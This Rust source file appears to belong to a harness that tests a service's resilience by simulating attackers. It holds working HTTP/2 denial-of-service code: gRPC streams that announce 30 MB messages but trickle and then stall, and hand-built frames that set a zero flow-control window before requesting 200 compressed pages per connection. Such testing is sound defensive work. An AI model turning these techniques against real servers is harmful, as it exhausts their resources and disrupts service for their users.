//! HTTP/2 allows many streams of one connection, and windows that stay closed.

use std::convert::Infallible;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures_util::stream;
use http_body_util::StreamBody;
use hyper::Request;
use hyper::body::Frame;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::AsyncWriteExt as _;

use super::attacker::{Scene, pause};
use super::wire::{Pace, Wire, address};
use crate::receiver::detach;

/// Streams of a connection.
const STREAMS: u32 = 64;
/// The length that a message announces, and the most that comes of it.
const MESSAGE_BYTES: u32 = 30_000_000;
const SENT_BYTES: usize = 1_000_000;
const SLICE: usize = 64 * 1_024;
/// How long an attacker waits for a connection to end before it looks for itself.
const HELD_FOR: Duration = Duration::from_secs(40);

/// Messages to ingest of which a beginning comes.
pub(super) fn unfinished_messages(scene: &Scene) {
    let pace = Arc::new(Pace::of(4));
    scene.spawn(16, move |scene, number| {
        let pace = Arc::clone(&pace);
        async move {
            loop {
                pace.turn().await;
                if send_messages(&scene, number).await.is_err() {
                    scene.count("not connected");
                }
            }
        }
    });
}

async fn send_messages(scene: &Scene, number: u32) -> Result<()> {
    let wire = Wire::open(address(number % 4), scene.stage.ingest_grpc).await?;
    let io = TokioIo::new(wire.stream);
    let (mut sender, connection) = http2::handshake(TokioExecutor::new(), io).await?;
    let (tell, ended) = tokio::sync::oneshot::channel();
    detach(async move {
        let _ = connection.await;
        // Nobody listens any more when it was held for long enough.
        let _ = tell.send(());
    });
    scene.count("connected");
    for _ in 0..STREAMS {
        let request = Request::post("http://attacks/postrider.v1.Ingest/Publish")
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(message(scene.clone()))?;
        sender.ready().await?;
        let answer = sender.send_request(request);
        let scene = scene.clone();
        detach(async move {
            match answer.await {
                Ok(answer) => {
                    let status = answer.headers().get("grpc-status");
                    let status = status.and_then(|status| status.to_str().ok()).unwrap_or("none");
                    scene.count(&format!("grpc-status {status}"));
                }
                Err(_) => scene.count("stream ended"),
            }
        });
    }
    // As long as the sender lives, the connection does.
    let ended = tokio::time::timeout(HELD_FOR, ended).await;
    drop(sender);
    scene.count(if ended.is_ok() { "closed by the other side" } else { "held for 40 s" });
    Ok(())
}

type Slices = std::pin::Pin<
    Box<dyn futures_util::Stream<Item = Result<Frame<Bytes>, Infallible>> + Send + 'static>,
>;

/// A message that says its size, and lacks most of it for ever. Slower than it could be
/// sent, because the attacker's CPU time is not what is measured.
fn message(scene: Scene) -> StreamBody<Slices> {
    let slices = stream::unfold(0, move |sent| {
        let scene = scene.clone();
        async move {
            if sent == 0 {
                let mut head = vec![0];
                head.extend(MESSAGE_BYTES.to_be_bytes());
                return Some((Ok(Frame::data(Bytes::from(head))), 1));
            }
            if sent + SLICE > SENT_BYTES {
                return std::future::pending().await;
            }
            pause(Duration::from_secs(1)).await;
            scene.count_more("bytes", SLICE as u64);
            Some((Ok(Frame::data(Bytes::from_static(&[b'a'; SLICE]))), sent + SLICE))
        }
    });
    StreamBody::new(Box::pin(slices))
}

/// HTTP/2 without asking first: 200 compressed pages of each connection, and no room for
/// any answer.
pub(super) fn closed_windows(scene: &Scene) {
    let pace = Arc::new(Pace::of(5));
    scene.spawn(20, move |scene, number| {
        let pace = Arc::clone(&pace);
        async move {
            loop {
                pace.turn().await;
                let Ok(mut wire) = Wire::open(address(number % 4), scene.stage.api).await else {
                    scene.count("not connected");
                    continue;
                };
                scene.count("connected");
                if wire.stream.write_all(&pages()).await.is_ok() {
                    wire.wait_for_end().await;
                }
                scene.count("closed by the other side");
            }
        }
    });
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn pages() -> Vec<u8> {
    // SETTINGS with INITIAL_WINDOW_SIZE 0 (RFC 9113, 6.5.2), then HEADERS that end their
    // streams: GET, http, this path, authority x, accept-encoding: gzip, deflate (RFC 7541, A).
    const HEADERS: &[u8] = b"\x82\x86\x04\x10/console/sign-in\x01\x01x\x90";
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
    for number in 0..200 {
        bytes.extend(frame(1, 5, 1 + 2 * number, HEADERS));
    }
    bytes
}
